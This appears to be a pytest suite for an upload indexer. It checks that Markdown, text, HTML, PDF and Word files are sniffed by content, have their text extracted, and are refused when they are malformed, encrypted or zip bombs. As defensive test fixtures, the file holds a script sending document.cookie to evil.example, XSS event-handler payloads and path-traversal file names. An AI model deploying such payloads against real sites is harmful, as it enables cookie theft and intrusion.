"""Reading uploads (indexer/formats): content sniffed, never trusted from the name; text of
Markdown, plain text, HTML, PDF and Word files; every kind of bad file refused with a
message and a kind of error (the web app maps kinds to statuses)."""
from __future__ import annotations

import io
import zipfile

import pytest

from indexer.formats import (DOCX, HTML, PDF, TEXT, EmptyFile, FormatError, UnsupportedFormat,
                             join_blocks, read_file, read_upload, sniff, text_from_bytes)
from indexer.formats.pdf import reflow
from tests.staff_support import docx_bytes, pdf_bytes, zip_bomb_docx

FRENCH = "Nous, les maires, nous engageons à lutter contre la haine et l'extrémisme violent."


# -- sniffing ---------------------------------------------------------------------------
@pytest.mark.parametrize("data, expected", [
    (pdf_bytes(["Bonjour"]), PDF),
    (b"\n  %PDF-1.7\n", PDF),
    (docx_bytes(["Bonjour"]), DOCX),
    (b"<!DOCTYPE html><html><body><p>x</p></body></html>", HTML),
    (b"<!-- generated --><html lang=fr><p>x", HTML),
    ("Nous, les maires".encode(), TEXT),
    ("# Titre\n\n<b>gras</b> dans du Markdown".encode(), TEXT),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "application/x-ole-storage"),
    (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "image/png"),
    (b"GIF89a\0\0", "application/octet-stream"),
    ("Les élus réunis à Montréal".encode("latin-1"), "text/x-unknown-encoding"),
])
def test_sniff_reads_the_content_not_the_name(data, expected):
    assert sniff(data) == expected


def test_a_zip_without_a_word_document_is_a_zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "bonjour")
    assert sniff(buffer.getvalue()) == "application/zip"
    with pytest.raises(UnsupportedFormat, match="named .docx but its content is a zip archive"):
        read_upload(buffer.getvalue(), "notes.docx")


# -- text and Markdown --------------------------------------------------------------------
def test_plain_text():
    read = read_upload(f"Déclaration de Nice\n\n{FRENCH}\r\n".encode(), "nice.txt")
    assert read.content_type == TEXT and read.extension is None
    assert read.title == "Déclaration de Nice"
    assert read.text == f"Déclaration de Nice\n\n{FRENCH}"


def test_markdown_front_matter_fills_the_metadata_and_never_the_id_or_corrections():
    data = ("---\ntitle: Déclaration de Nice\ntype: declaration\ndate: 2024-05\nid: forced\n"
            "corrections: {cities: {remove: [Paris]}}\n---\n# Nice\n\n" + FRENCH).encode()
    read = read_upload(data, "nice.md")
    assert read.title == "Déclaration de Nice"
    assert read.meta == {"title": "Déclaration de Nice", "type": "declaration", "date": "2024-05"}
    assert read.text.startswith("# Nice")


def test_markdown_with_bad_front_matter_says_why_and_where():
    with pytest.raises(FormatError, match=r"front matter .*unknown type 'poem'"):
        read_upload(b"---\ntype: poem\n---\nNous nous engageons.", "x.md")
    with pytest.raises(FormatError, match=r"front matter .*\(line 3\): invalid YAML"):
        read_upload(b"---\ntitle: ok\ndate: [2024\n---\nNous nous engageons.", "x.md")


def test_text_that_is_not_utf8_is_refused_with_the_offset():
    with pytest.raises(FormatError, match=r"not UTF-8 \(undecodable byte 0xe9 at offset 4\)") as caught:
        read_upload("Les élus".encode("latin-1"), "x.txt")
    assert type(caught.value) is FormatError          # unreadable: a 422 on the web


@pytest.mark.parametrize("data", [b"", b"   \n\n  ", b"12 34 -- !!", "\u200b\u200b".encode()])
def test_empty_text_is_refused(data):
    with pytest.raises(FormatError) as caught:
        read_upload(data, "empty.txt")
    assert type(caught.value) in (FormatError, EmptyFile)


def test_pasted_text():
    assert text_from_bytes(FRENCH.encode()).text == FRENCH
    with pytest.raises(FormatError, match="no text was found"):
        text_from_bytes(b"   ")


# -- HTML -------------------------------------------------------------------------------
PAGE = b"""<!doctype html><html><head><title>Declaration de Nice</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>p { color: red }</style></head>
<body><nav>Menu</nav><h1>La d&eacute;claration</h1>
<p onclick="alert(1)">Nous, les <strong>maires</strong>,<br>nous engageons :</p>
<ul><li>&agrave; former les agents ;</li><li>&agrave; soutenir les jeunes.</li></ul>
<noscript>Activez JavaScript</noscript><iframe src="https://evil.example"></iframe>
<table><tr><td>Nice</td><td>2024</td></tr></table><img src=x onerror=alert(1)>
</body></html>"""


def test_html_keeps_text_only():
    read = read_upload(PAGE, "page.html")
    assert read.content_type == HTML and read.extension == "html"
    assert read.title == "Declaration de Nice"
    assert read.text == ("Menu\n\n# La déclaration\n\nNous, les maires,\nnous engageons :\n\n"
                         "- à former les agents ;\n- à soutenir les jeunes.\n\nNice | 2024").replace(",\nnous", ", nous")
    for gone in ("script", "evil", "cookie", "color", "alert", "onclick", "JavaScript", "<"):
        assert gone not in read.text


def test_html_in_another_declared_charset():
    data = '<html><head><meta charset="iso-8859-1"></head><body><p>Les élus de Montréal</p></body></html>'
    assert read_upload(data.encode("latin-1"), "x.html").text == "Les élus de Montréal"


def test_html_in_an_undeclared_charset_is_refused():
    data = "<html><body><p>Les élus de Montréal</p></body></html>".encode("latin-1")
    with pytest.raises(FormatError, match="not UTF-8"):
        read_upload(data, "x.html")


def test_a_text_file_that_is_really_an_html_page_is_refused():
    with pytest.raises(UnsupportedFormat, match="named .txt but its content is an HTML page"):
        read_upload(PAGE, "notes.txt")


# -- PDF --------------------------------------------------------------------------------
def test_pdf_text_in_paragraphs_and_pages():
    data = pdf_bytes(["Declaration des maires",
                      "Nous, les maires des villes signataires, reunis a Nice, nous\n"
                      "engageons a agir.\n- former les agents ;\n- soutenir les jeunes.", "2"],
                     title="Declaration de Nice")
    read = read_upload(data, "decl.pdf")
    assert read.content_type == PDF and read.extension == "pdf" and read.pages == 3
    assert read.title == "Declaration de Nice"
    assert read.text == ("Declaration des maires\n\nNous, les maires des villes signataires, reunis a "
                         "Nice, nous engageons a agir.\n\n- former les agents ;\n- soutenir les jeunes.")


def test_pdf_without_title_takes_its_first_line():
    assert read_upload(pdf_bytes(["Declaration de Lyon\nNous nous engageons."]), "x.pdf").title == "Declaration de Lyon"


def test_reflow_joins_hyphens_and_drops_page_numbers():
    assert reflow("La radicali-\r\nsation des jeunes est un sujet\r\nPage 3 of 20\r\n12") == \
        ["La radicali-sation des jeunes est un sujet"]


def test_encrypted_pdf_is_refused():
    with pytest.raises(FormatError, match="encrypted") as caught:
        read_upload(pdf_bytes(["Secret"], encrypt=True), "secret.pdf")
    assert type(caught.value) is FormatError          # unreadable: a 422 on the web


@pytest.mark.parametrize("data", [b"%PDF-1.4\nnot really a pdf", pdf_bytes(["Bonjour"])[:300]])
def test_damaged_pdf_is_refused(data):
    with pytest.raises(FormatError, match="damaged") as caught:
        read_upload(data, "broken.pdf")
    assert type(caught.value) is FormatError          # unreadable: a 422 on the web


def test_pdf_without_text_is_refused():
    """A blank page is a scan in which nothing can be read (tests/test_ocr.py: when OCR is
    missing, it is refused saying how to enable it)."""
    with pytest.raises(FormatError, match="nothing could be read|OCR is not available"):
        read_upload(pdf_bytes([""]), "scan.pdf")


@pytest.mark.parametrize("name, data, claimed, actual", [
    ("report.pdf", FRENCH.encode(), ".pdf", "plain text"),
    ("report.pdf", docx_bytes(["x"]), ".pdf", "a Word document"),
    ("letter.docx", pdf_bytes(["x"]), ".docx", "a PDF"),
    ("notes.txt", pdf_bytes(["x"]), ".txt", "a PDF"),
    ("page.html", pdf_bytes(["x"]), ".html", "a PDF"),
    ("image.pdf", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", ".pdf", "a PNG image"),
    ("image.pdf", b"GIF89a\0\0", ".pdf", "a binary file"),
    ("old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, ".docx", "password-protected"),
])
def test_content_that_is_not_what_the_name_claims_is_refused(name, data, claimed, actual):
    with pytest.raises(UnsupportedFormat) as caught:
        read_upload(data, name)
    assert f"named {claimed}" in str(caught.value) and actual in str(caught.value)


@pytest.mark.parametrize("name", ["program.exe", "archive.zip", "noextension", "image.gif", ".bashrc"])
def test_unsupported_types_are_refused(name):
    with pytest.raises(UnsupportedFormat, match="not supported"):
        read_upload(FRENCH.encode(), name)


@pytest.mark.parametrize("name", ["../../etc/passwd.txt", "..\\..\\boot.ini.txt", "/etc/cron.d/x.md"])
def test_path_names_are_only_an_extension(name):
    assert read_upload(FRENCH.encode(), name).text == FRENCH


# -- Word -------------------------------------------------------------------------------
def test_docx_headings_lists_tables():
    data = docx_bytes([FRENCH], heading="Déclaration de Nice", bullets=["former", "soutenir"],
                      table=[["Ville", "Année"], ["Nice", "2024"]])
    read = read_upload(data, "nice.docx")
    assert read.content_type == DOCX and read.extension == "docx"
    assert read.title == "Déclaration de Nice"
    assert read.text == (f"# Déclaration de Nice\n\n{FRENCH}\n\n- former\n- soutenir\n\n"
                         "Ville | Année\n\nNice | 2024")


def test_docx_title_from_its_properties():
    assert read_upload(docx_bytes([FRENCH], title="Titre officiel"), "x.docx").title == "Titre officiel"


def test_docx_zip_bomb_is_refused_before_it_is_unpacked():
    with pytest.raises(FormatError, match="zip bomb") as caught:
        read_upload(zip_bomb_docx(120), "bomb.docx")
    assert "unpack to 120 MB" in str(caught.value) and type(caught.value) is FormatError


def test_docx_compressed_implausibly_well_is_refused():
    with pytest.raises(FormatError, match=r"word/document.xml\) is compressed \d+ to 1"):
        read_upload(zip_bomb_docx(20), "small-bomb.docx")


def test_damaged_docx_is_refused():
    data = bytearray(docx_bytes([FRENCH]))
    data[len(data) // 2: len(data) // 2 + 200] = b"\0" * 200
    with pytest.raises(FormatError, match="damaged"):
        read_upload(bytes(data), "broken.docx")


def test_join_blocks():
    assert join_blocks(["a", "- b", "- c", "d"]) == "a\n\n- b\n- c\n\nd"


def test_read_file_reads_a_corpus_original(tmp_path):
    path = tmp_path / "decl.fr.pdf"
    path.write_bytes(pdf_bytes(["Declaration de Nice\nNous nous engageons a agir."]))
    assert "Nous nous engageons" in read_file(path).text
    with pytest.raises(FormatError, match="cannot read"):
        read_file(tmp_path / "missing.pdf")
